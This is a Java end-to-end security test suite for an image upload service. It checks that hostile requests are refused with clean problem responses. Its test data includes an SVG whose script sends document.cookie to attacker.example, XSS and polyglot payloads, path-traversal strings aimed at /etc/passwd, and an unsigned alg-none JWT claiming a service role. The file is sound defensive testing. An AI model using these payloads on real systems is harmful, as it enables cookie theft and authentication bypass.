package io.imagepipe.e2e.security;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import java.util.zip.CRC32;

import io.imagepipe.e2e.Pipeline;
import io.imagepipe.e2e.ServiceProcesses;
import io.imagepipe.testsupport.TestTokens;
import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The hostile-request table: each row is a request (or a burst of them) an attacker or a
 * broken client might send to the running pipeline, with the status it must get and, for
 * refusals, the problem type. Every refusal must be a problem document with nothing
 * internal in it; every accepted hostile upload must end served as re-encoded WebP.
 */
@ExtendWith(ServiceProcesses.class)
class HostileRequestTests {

	private static final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

	private static final JsonMapper json = JsonMapper.builder().build();

	private static final String PROBLEM = "urn:imagepipe:problem:";

	private static final List<String> INTERNALS = List.of("Exception", "\tat ", "org.springframework", "java.",
			"jakarta.", "Hikari", "SQL", "nimbus", "Caused by");

	private final Pipeline pipeline;

	HostileRequestTests(Pipeline pipeline) {
		this.pipeline = pipeline;
	}

	static Stream<Arguments> hostileRequests() {
		String user = "hostile-" + UUID.randomUUID().toString().substring(0, 8);
		return Stream.of(
				row("no token", 401, "unauthorized", (t) -> t.upload("users/" + user + "/profile", null, png(16, 16))),
				row("an expired token", 401, "invalid-token",
						(t) -> t.upload("users/" + user + "/profile", TestTokens.expired(user), png(16, 16))),
				row("a bad signature", 401, "invalid-token",
						(t) -> t.upload("users/" + user + "/profile", TestTokens.forged(), png(16, 16))),
				row("an unsigned token (alg none)", 401, "invalid-token",
						(t) -> t.upload("users/" + user + "/profile", unsigned(user), png(16, 16))),
				row("a token that is not a JWT", 401, "invalid-token",
						(t) -> t.upload("users/" + user + "/profile", "not.a.jwt", png(16, 16))),
				row("another user's profile", 403, "forbidden",
						(t) -> t.upload("users/someone-else/profile", TestTokens.user(user), png(16, 16))),
				row("another org's logo", 403, "forbidden",
						(t) -> t.upload("organizations/globex/logo", TestTokens.orgAdmin(user, "acme"), png(16, 16))),
				row("a user writing an org logo", 403, "forbidden",
						(t) -> t.upload("organizations/acme/logo", TestTokens.user(user), png(16, 16))),
				row("an ops API route without the ops role", 403, "forbidden",
						(t) -> t.get(t.ops("/api/v1/ops/overview"), TestTokens.service())),
				row("an ops API route with no credentials", 401, "unauthorized",
						(t) -> t.get(t.ops("/api/v1/ops/overview"), null)),
				row("the ops page with a user's token", 403, "forbidden",
						(t) -> t.get(t.ops("/ops"), TestTokens.user(user))),
				row("an ops action with a user's token", 403, "forbidden",
						(t) -> t.send(HttpRequest.newBuilder(t.ops("/api/v1/ops/retries/matching"))
							.header("Authorization", TestTokens.bearer(TestTokens.user(user)))
							.header("Content-Type", "application/json")
							.POST(HttpRequest.BodyPublishers.ofString("{}")))),
				row("an oversized body", 413, "upload-too-large",
						(t) -> t.upload("users/" + user + "/profile", TestTokens.user(user),
								new byte[21 * 1024 * 1024])),
				row("an SVG with a script", 415, "unsupported-media-type",
						(t) -> t.multipart("users/" + user + "/profile", TestTokens.user(user), "avatar.svg",
								"image/svg+xml", svgWithScript())),
				row("HTML renamed .png", 415, "unsupported-media-type",
						(t) -> t.multipart("users/" + user + "/profile", TestTokens.user(user), "avatar.png",
								"image/png", html())),
				row("HTML as a raw body", 415, "unsupported-media-type",
						(t) -> t.upload("users/" + user + "/profile", TestTokens.user(user), html())),
				row("a PNG header declaring 100000 x 100000 pixels", 422, "too-many-pixels",
						(t) -> t.upload("users/" + user + "/profile", TestTokens.user(user),
								pngHeader(100_000, 100_000))),
				row("path traversal with encoded slashes in the owner id", 400, "invalid-owner-id",
						(t) -> t.upload("users/..%2F..%2Fetc%2Fpasswd/profile", TestTokens.service(), png(16, 16))),
				row("a dot-dot segment", 400, "malformed-request",
						(t) -> t.upload("users/../organizations/acme/logo", TestTokens.service(), png(16, 16))),
				row("an encoded dot-dot segment", 400, "malformed-request",
						(t) -> t.upload("users/%2e%2e/profile", TestTokens.service(), png(16, 16))),
				row("an encoded NUL in the owner id", 400, "malformed-request",
						(t) -> t.upload("users/a%00b/profile", TestTokens.service(), png(16, 16))),
				row("markup in the owner id", 400, "invalid-owner-id",
						(t) -> t.upload("users/%3Cscript%3Ealert(1)%3C%2Fscript%3E/profile", TestTokens.service(),
								png(16, 16))),
				row("a non-ASCII owner id", 400, "invalid-owner-id",
						(t) -> t.upload("users/%C3%A9l%C3%A8ve/profile", TestTokens.service(), png(16, 16))),
				row("a 300-character owner id", 400, "invalid-owner-id",
						(t) -> t.upload("users/" + "a".repeat(300) + "/profile", TestTokens.service(), png(16, 16))),
				row("an unknown slot", 404, "unknown-slot",
						(t) -> t.upload("users/" + user + "/passwords", TestTokens.service(), png(16, 16))),
				row("the status of an upload nobody holds the id of", 404, "upload-not-found",
						(t) -> t.get(t.ingest("/api/v1/uploads/" + UUID.randomUUID()), null)),
				row("a guessed, non-UUID upload id", 404, "upload-not-found",
						(t) -> t.get(t.ingest("/api/v1/uploads/1"), null)),
				row("TRACE, to echo the request back", 405, "method-not-allowed",
						(t) -> t.send(HttpRequest.newBuilder(t.ingest("/api/v1/uploads/" + UUID.randomUUID()))
							.header("Authorization", TestTokens.bearer(TestTokens.service()))
							.method("TRACE", HttpRequest.BodyPublishers.noBody()))),
				row("the error page asked for directly, as a browser", 404, "not-found",
						(t) -> t.send(HttpRequest.newBuilder(t.ingest("/error")).header("Accept", "text/html").GET())),
				row("a burst over the rate limit", 429, "rate-limited", (t) -> t.burst("burst-" + user)));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("hostileRequests")
	void getsItsExpectedAnswer(Request request, int status, String problemType) throws Exception {
		HttpResponse<String> response = request.send(this);
		assertThat(response.statusCode()).as(response.body()).isEqualTo(status);
		assertThat(response.headers().firstValue("Content-Type"))
			.hasValueSatisfying((type) -> assertThat(type).startsWith("application/problem+json"));
		JsonNode problem = json.readTree(response.body());
		assertThat(problem.path("type").asString()).isEqualTo(PROBLEM + problemType);
		assertThat(problem.path("status").asInt()).isEqualTo(status);
		assertThat(problem.path("detail").asString()).isNotBlank();
		INTERNALS.forEach((internal) -> assertThat(response.body()).doesNotContain(internal));
		if (status == 401) {
			assertThat(response.headers().firstValue("WWW-Authenticate")).isPresent();
		}
		if (status == 429) {
			assertThat(response.headers().firstValue("Retry-After"))
				.hasValueSatisfying((seconds) -> assertThat(Integer.parseInt(seconds)).isPositive());
		}
	}

	/**
	 * A JPEG that is also an HTML page (markup in a comment segment and after the end of
	 * the image) is a valid JPEG, so it is accepted; what is served is the re-encoded
	 * WebP, with none of the markup, under headers that keep a browser from running
	 * anything.
	 */
	@org.junit.jupiter.api.Test
	void aJpegHtmlPolyglotIsServedOnlyAsReEncodedWebP() throws Exception {
		String owner = "polyglot-" + UUID.randomUUID().toString().substring(0, 8);
		HttpResponse<String> accepted = upload("users/" + owner + "/profile", TestTokens.user(owner),
				jpegHtmlPolyglot());
		assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(202);
		JsonNode body = json.readTree(accepted.body());
		URI status = ingest(body.path("statusUrl").asString());
		JsonNode done = await("the polyglot to be processed").atMost(Duration.ofSeconds(60))
			.pollInterval(Duration.ofMillis(200))
			.until(() -> json.readTree(get(status, null).body()),
					(node) -> List.of("done", "failed").contains(node.path("status").asString()));
		assertThat(done.path("status").asString()).isEqualTo("done");
		HttpResponse<byte[]> image = http.send(
				HttpRequest.newBuilder(URI.create(done.path("imageUrl").asString())).build(),
				HttpResponse.BodyHandlers.ofByteArray());
		assertThat(image.statusCode()).isEqualTo(200);
		assertThat(image.headers().firstValue("Content-Type")).contains("image/webp");
		assertThat(image.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
		assertThat(image.headers().firstValue("Content-Security-Policy")).contains("default-src 'none'; sandbox");
		byte[] webp = image.body();
		assertThat(new String(webp, 0, 4, StandardCharsets.US_ASCII)).isEqualTo("RIFF");
		assertThat(new String(webp, 8, 4, StandardCharsets.US_ASCII)).isEqualTo("WEBP");
		assertThat(new String(webp, StandardCharsets.ISO_8859_1)).doesNotContain("<script", "<html", "alert(");
		// images are public: no token is needed, and a bad one changes nothing
		HttpResponse<byte[]> withBadToken = http
			.send(HttpRequest.newBuilder(URI.create(done.path("imageUrl").asString()))
				.header("Authorization", "Bearer not.a.jwt")
				.build(), HttpResponse.BodyHandlers.ofByteArray());
		assertThat(withBadToken.statusCode()).isEqualTo(200);
		assertThat(withBadToken.body()).isEqualTo(webp);
	}

	// the requests

	URI ingest(String path) {
		return URI.create(this.pipeline.ingestUrl() + path);
	}

	URI ops(String path) {
		return URI.create(this.pipeline.opsUrl() + path);
	}

	HttpResponse<String> upload(String image, String token, byte[] body) throws IOException, InterruptedException {
		HttpRequest.Builder request = HttpRequest.newBuilder(ingest("/api/v1/images/" + image))
			.header("Content-Type", "application/octet-stream")
			.POST(HttpRequest.BodyPublishers.ofByteArray(body));
		return send(authorized(request, token));
	}

	HttpResponse<String> multipart(String image, String token, String filename, String contentType, byte[] content)
			throws IOException, InterruptedException {
		String boundary = "hostile" + UUID.randomUUID().toString().replace("-", "");
		ByteArrayOutputStream body = new ByteArrayOutputStream();
		body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + filename
				+ "\"\r\nContent-Type: " + contentType + "\r\n\r\n")
			.getBytes(StandardCharsets.UTF_8));
		body.writeBytes(content);
		body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
		HttpRequest.Builder request = HttpRequest.newBuilder(ingest("/api/v1/images/" + image))
			.header("Content-Type", "multipart/form-data; boundary=" + boundary)
			.POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray()));
		return send(authorized(request, token));
	}

	HttpResponse<String> get(URI url, String token) throws IOException, InterruptedException {
		return send(authorized(HttpRequest.newBuilder(url).GET(), token));
	}

	HttpResponse<String> send(HttpRequest.Builder request) throws IOException, InterruptedException {
		return http.send(request.timeout(Duration.ofSeconds(30)).build(), HttpResponse.BodyHandlers.ofString());
	}

	/**
	 * Upload small images as one user as fast as possible until one is refused; the rate
	 * (20 a minute) lets 20 through at once and then about one every three seconds.
	 */
	HttpResponse<String> burst(String subject) throws IOException, InterruptedException {
		String token = TestTokens.user(subject);
		byte[] image = png(8, 8);
		List<Integer> statuses = new ArrayList<>();
		for (int i = 0; i < 40; i++) {
			HttpResponse<String> response = upload("users/" + subject + "/profile", token, image);
			statuses.add(response.statusCode());
			if (response.statusCode() != 202) {
				assertThat(statuses.subList(0, statuses.size() - 1)).as("accepted before the limit")
					.hasSizeGreaterThanOrEqualTo(20)
					.containsOnly(202);
				return response;
			}
		}
		throw new AssertionError("40 uploads in a row were accepted: " + statuses);
	}

	private static HttpRequest.Builder authorized(HttpRequest.Builder request, String token) {
		return (token != null) ? request.header("Authorization", TestTokens.bearer(token)) : request;
	}

	// the bodies

	static byte[] png(int width, int height) {
		try {
			java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(width, height,
					java.awt.image.BufferedImage.TYPE_INT_RGB);
			ByteArrayOutputStream out = new ByteArrayOutputStream();
			javax.imageio.ImageIO.write(image, "png", out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

	/** Only a PNG signature and a valid IHDR chunk declaring the given size. */
	static byte[] pngHeader(int width, int height) {
		ByteBuffer ihdr = ByteBuffer.allocate(17).put("IHDR".getBytes(StandardCharsets.US_ASCII));
		ihdr.putInt(width).putInt(height).put((byte) 8).put((byte) 2).put((byte) 0).put((byte) 0).put((byte) 0);
		CRC32 crc = new CRC32();
		crc.update(ihdr.array());
		return ByteBuffer.allocate(8 + 4 + 17 + 4)
			.put(new byte[] { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' })
			.putInt(13)
			.put(ihdr.array())
			.putInt((int) crc.getValue())
			.array();
	}

	static byte[] svgWithScript() {
		return """
				<?xml version="1.0"?>
				<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
				  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
				  <rect width="100" height="100" fill="red"/>
				</svg>
				""".getBytes(StandardCharsets.UTF_8);
	}

	static byte[] html() {
		return "<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
			.getBytes(StandardCharsets.UTF_8);
	}

	/** A real JPEG with markup in a COM segment after SOI and again after EOI. */
	static byte[] jpegHtmlPolyglot() throws IOException {
		java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(64, 48,
				java.awt.image.BufferedImage.TYPE_INT_RGB);
		ByteArrayOutputStream jpeg = new ByteArrayOutputStream();
		javax.imageio.ImageIO.write(image, "jpeg", jpeg);
		byte[] plain = jpeg.toByteArray();
		byte[] markup = "<html><script>alert(document.domain)</script></html>".getBytes(StandardCharsets.US_ASCII);
		ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
		polyglot.write(plain, 0, 2);
		polyglot.write(0xFF);
		polyglot.write(0xFE);
		polyglot.write((markup.length + 2) >> 8);
		polyglot.write((markup.length + 2) & 0xFF);
		polyglot.write(markup);
		polyglot.write(plain, 2, plain.length - 2);
		polyglot.write(markup);
		return polyglot.toByteArray();
	}

	/**
	 * A token with {@code alg: none}: claims that would be a service's, and no signature.
	 */
	static String unsigned(String subject) {
		Base64.Encoder base64 = Base64.getUrlEncoder().withoutPadding();
		String header = base64.encodeToString("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8));
		long exp = java.time.Instant.now().plusSeconds(600).getEpochSecond();
		String claims = base64
			.encodeToString(("{\"sub\":\"" + subject + "\",\"roles\":[\"service\"],\"exp\":" + exp + "}")
				.getBytes(StandardCharsets.UTF_8));
		return header + "." + claims + ".";
	}

	private static Arguments row(String name, int status, String problemType, Request request) {
		return Arguments.of(Named.of(name, request), status, problemType);
	}

	/** One row's request(s), sent from the test instance. */
	@FunctionalInterface
	interface Request {

		HttpResponse<String> send(HostileRequestTests test) throws Exception;

	}

}
